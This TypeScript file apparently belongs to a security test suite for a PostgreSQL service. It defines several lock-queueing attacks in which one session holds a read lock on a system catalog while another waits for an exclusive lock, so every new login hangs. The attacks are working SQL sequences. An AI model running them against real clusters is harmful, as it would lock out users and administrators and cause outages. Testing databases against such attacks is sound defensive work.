/**
 * PostgreSQL takes some locks before it asks whether the statement is allowed. One session reads a shared catalog in an
 * open transaction, another one waits for an excluding lock on it, and everybody who logs in queues behind the second.
 */
import { type Attack, AttackSessions, moment } from "./cluster-attack.ts";

const FOR_EVER = "select pg_sleep(1e6)";

function variant(name: string, reading: readonly string[], waiting: readonly string[], hangsLogins = false): Attack {
  return {
    name,
    hangsLogins,
    async run(login) {
      const sessions = new AttackSessions(login);
      await sessions.begin(["begin", ...reading, FOR_EVER]);
      await sessions.begin(waiting);
      await moment();
      return sessions.running();
    },
  };
}

/** Each hangs every new session of the cluster, or of one of its databases, for as long as the attacker likes. */
export const SHARED_LOCK_ATTACKS: readonly Attack[] = [
  variant(
    "waits to write a rule on the catalog of databases",
    ["select count(*) from pg_database"],
    ["create rule r as on insert to pg_catalog.pg_database do instead nothing"],
    true,
  ),
  variant(
    "waits to write a rule on the catalog of roles",
    ["select count(*) from pg_roles"],
    ["create rule r as on insert to pg_catalog.pg_authid do instead nothing"],
    true,
  ),
  variant(
    "waits to drop the database that every administrator logs in to",
    ["set local role anon", "alter role anon in database postgres set work_mem = '1MB'"],
    ["drop database postgres"],
  ),
  variant(
    "waits to rename the database that every administrator logs in to",
    ["set local role anon", "alter role anon in database postgres set work_mem = '1MB'"],
    ["alter database postgres rename to mine"],
  ),
  variant(
    "waits to move that database to another tablespace",
    ["set local role anon", "alter role anon in database postgres set work_mem = '1MB'"],
    ["alter database postgres set tablespace pg_default"],
  ),
  variant(
    "waits for a trigger on the catalog of roles while another session changes its password, from within a block",
    ["alter role current_user password 'another'"],
    [
      `do $$ begin
         execute 'create trigger t after insert on pg_catalog.pg_authid execute function suppress_redundant_updates_trigger()';
       end $$`,
    ],
  ),
  variant(
    "waits to refer to the catalog of databases, which another session reads",
    ["alter role current_user in database postgres set work_mem = '1MB'"],
    [
      "create table if not exists public.referring (database oid)",
      "alter table public.referring add foreign key (database) references pg_catalog.pg_db_role_setting (setdatabase)",
    ],
  ),
  variant(
    "waits in a subtransaction whose timeouts bring it back again and again",
    ["select count(*) from pg_database"],
    [
      `do $$ begin
         set lock_timeout = '400ms';
         loop
           begin
             execute 'create rule r as on insert to pg_catalog.pg_database do instead nothing';
           exception when lock_not_available then null; end;
         end loop;
       end $$`,
    ],
    true,
  ),
  // Every session that next looks up a role reads the catalog again, the watch's own included.
  variant(
    "changes a role a moment before it waits for the catalog of roles",
    ["select count(*) from pg_roles"],
    [
      "alter role current_user set work_mem = '1MB'",
      "create rule r as on insert to pg_catalog.pg_authid do instead nothing",
    ],
  ),
];
